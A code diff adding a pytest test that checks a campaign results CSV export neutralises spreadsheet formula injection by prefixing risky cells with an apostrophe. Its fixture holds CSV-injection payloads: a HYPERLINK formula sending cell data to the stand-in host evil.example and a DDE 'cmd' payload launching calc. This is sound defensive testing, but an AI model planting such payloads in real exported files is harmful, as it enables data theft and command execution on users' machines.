@@ -217,6 +217,61 @@ def test_a_crash_inside_the_publish_transaction_leaves_no_partial_publication(
     assert client.get("/api/v1/campaigns/c1/results").json["version"] == 1
 
 
+FORMULAS = {
+    "F1": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "F2": "+1+cmd|' /C calc'!A0",
+    "F3": "-2+3",
+    "F4": "@SUM(1,2)",
+    "F5": "\t=1+1",
+    "F6": "\r=1+1",
+    "F7": "正常标题 =1+1",
+}
+
+
+def test_results_csv_neutralises_formula_cells_and_keeps_numbers(
+    client, app, make_campaign, workers_app
+):
+    """Titles, categories and areas starting with = + - @ tab or CR get a leading
+    apostrophe in results.csv (OWASP CSV injection); numbers stay numbers, the JSON
+    document keeps the text as entered."""
+    entries = [
+        {
+            "code": code,
+            "title": title,
+            "category": "=cat" if code == "F1" else "普通",
+            "area": "@area" if code == "F2" else "-",
+        }
+        for code, title in FORMULAS.items()
+    ]
+    make_campaign(
+        "c1",
+        entries=entries,
+        ranking={"public_weight": 1, "expert_weight": 0},
+        selection={"rule": "top", "winners": 2},
+    )
+    add_ballots(app, "c1", [["F1"], ["F1", "F3"], ["F2"]])
+    start_run(client)
+    drain(app)
+    publish(client)
+    drain(app)
+    doc = client.get("/api/v1/campaigns/c1/results").json
+    assert {row["code"]: row["title"] for row in doc["rows"]} == FORMULAS
+
+    r = client.get("/api/v1/campaigns/c1/results.csv")
+    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
+    by_code = {row["code"]: row for row in rows}
+    for code, title in FORMULAS.items():
+        want = title if code == "F7" else "'" + title
+        assert by_code[code]["title"] == want, code
+    for row in rows:
+        for key in ("title", "category", "area", "award", "flags"):
+            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), (key, row)
+    assert by_code["F1"]["category"] == "'=cat" and by_code["F2"]["area"] == "'@area"
+    assert by_code["F3"]["area"] == "'-"
+    assert by_code["F1"]["votes"] == "2" and float(by_code["F1"]["vote_score"]) > 0
+    assert by_code["F1"]["rank"] == "1"
+
+
 def test_live_results_show_the_latest_run_as_provisional(client, app, make_campaign, workers_app):
     """With results.live, the public sees the latest finished run marked provisional
     until something is published."""
